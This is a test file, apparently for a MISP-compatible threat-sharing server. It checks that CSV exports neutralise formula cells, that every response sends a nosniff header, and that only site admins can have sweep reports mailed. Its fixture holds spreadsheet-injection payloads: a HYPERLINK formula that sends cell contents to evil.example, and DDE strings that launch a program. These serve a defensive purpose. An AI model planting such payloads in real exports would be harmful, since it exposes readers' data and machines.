// Exports that cannot be turned against their reader (issue 9, item 18): CSV cells that a
// spreadsheet would run as formulas are neutralised unless asked otherwise, every answer carries
// X-Content-Type-Options: nosniff, and only site admins can make the server send sweep mail.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startInProcess, type InProcessApp } from "../support/in-process.js";

const HOSTILE = [
  { type: "text", category: "Other", value: '=HYPERLINK("http://evil.example/?"&A1,"open")', comment: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { type: "text", category: "Other", value: "+cmd|' /C calc'!A0", comment: "-2+3" },
  // Values are trimmed when stored; comments keep a leading tab or carriage return.
  { type: "text", category: "Other", value: "tab", comment: "\tTAB" },
  { type: "text", category: "Other", value: "cr", comment: "\rCR" },
  { type: "text", category: "Other", value: "-42", comment: "+15551234567" },
  { type: "text", category: "Other", value: "plain", comment: "a=b" },
];

function csvCells(text: string): string[][] {
  // The export quotes cells with commas, quotes or line breaks; a cell may hold a carriage return.
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ",") {
      row.push(cell);
      cell = "";
    } else if (!quoted && ch === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else {
      cell += ch;
    }
  }
  return rows;
}

describe("safe exports", () => {
  let api: InProcessApp;
  let eventId: string;

  beforeAll(async () => {
    api = await startInProcess();
    const added = await api.call("POST", "/events/add", { info: "formulas", Attribute: HOSTILE });
    expect(added.status, added.text).toBe(200);
    eventId = added.json.Event.id;
  });
  afterAll(async () => {
    await api?.close();
  });

  async function exported(extra: Record<string, unknown> = {}, target = api) {
    const answer = await target.call("POST", "/attributes/restSearch", { returnFormat: "csv", eventid: eventId, requested_attributes: ["value", "comment"], ...extra });
    expect(answer.status, answer.text).toBe(200);
    return csvCells(answer.text);
  }

  it("neutralises cells starting with = + - @ tab or CR in CSV by default, and leaves plain numbers alone", async () => {
    const [header, ...rows] = await exported();
    expect(header).toEqual(["value", "comment"]);
    expect(rows).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1,"open")`, "'@SUM(1+1)*cmd|' /C calc'!A0"],
      ["'+cmd|' /C calc'!A0", "'-2+3"],
      ["tab", "'\tTAB"],
      ["cr", "'\rCR"],
      ["-42", "+15551234567"],
      ["plain", "a=b"],
    ]);
  });

  it("gives MISP's exact values with safeCsv: 0, or when the instance turns safe mode off", async () => {
    const exact = HOSTILE.map((a) => [a.value, a.comment]);
    expect((await exported({ safeCsv: 0 })).slice(1)).toEqual(exact);
    const unsafe = await startInProcess({ csvSafe: false, sqliteFile: undefined });
    try {
      const added = await unsafe.call("POST", "/events/add", { info: "formulas", Attribute: HOSTILE });
      const answer = await unsafe.call("POST", "/attributes/restSearch", { returnFormat: "csv", eventid: added.json.Event.id, requested_attributes: ["value", "comment"] });
      expect(csvCells(answer.text).slice(1)).toEqual(exact);
      const asked = await unsafe.call("POST", "/attributes/restSearch", { returnFormat: "csv", eventid: added.json.Event.id, requested_attributes: ["value"], safeCsv: 1 });
      expect(csvCells(asked.text)[1]).toEqual([`'${HOSTILE[0]!.value}`]);
    } finally {
      await unsafe.close();
    }
  });

  it("leaves JSON and text exports as they are", async () => {
    const json = await api.call("POST", "/attributes/restSearch", { eventid: eventId });
    expect(json.json.response.Attribute.map((a: any) => a.value)).toEqual(HOSTILE.map((a) => a.value));
    expect((await api.call("POST", "/attributes/restSearch", { safeCsv: "no" })).status).toBe(400);
  });

  it("sends X-Content-Type-Options: nosniff on every answer: successes, streams, refusals and errors", async () => {
    const answers = [
      await api.call("GET", "/servers/getVersion"),
      await api.call("POST", "/attributes/restSearch", { returnFormat: "csv" }),
      await api.call("POST", "/attributes/restSearch", { returnFormat: "text" }),
      await api.call("GET", "/users/view/me", undefined, { key: null }),
      await api.call("GET", "/events/view/987654"),
      await api.call("GET", "/no/such/route"),
      await api.call("POST", "/events/add", undefined, { raw: "{" }),
      await api.call("GET", "/metrics", undefined, { key: null }),
      await api.call("GET", "/halflife/health", undefined, { key: null }),
    ];
    for (const answer of answers) expect(answer.headers.get("x-content-type-options"), `${answer.status} ${answer.text.slice(0, 80)}`).toBe("nosniff");
  });

  it("lets only site admins have the server mail a sweep report, before anything runs", async () => {
    const orgAdmin = await api.addUser({ role: "Org Admin" });
    for (const [path, body] of [
      ["/halflife/sweeps/dry-run", { mailAlways: true }],
      ["/halflife/sweeps/dry-run", { mail: true }],
      ["/halflife/sweeps", { mail: true, dryRun: true }],
    ] as const) {
      const before = await api.signature();
      const answer = await api.call("POST", path, body, { key: orgAdmin.key });
      expect(answer.status, answer.text).toBe(403);
      expect(answer.json.message).toBe("Only site admins may have the server mail sweep reports.");
      expect(await api.signature()).toEqual(before);
    }
    // Without mail the organisation admin's dry run still works.
    expect((await api.call("POST", "/halflife/sweeps/dry-run", {}, { key: orgAdmin.key })).status).toBe(200);
  });
});
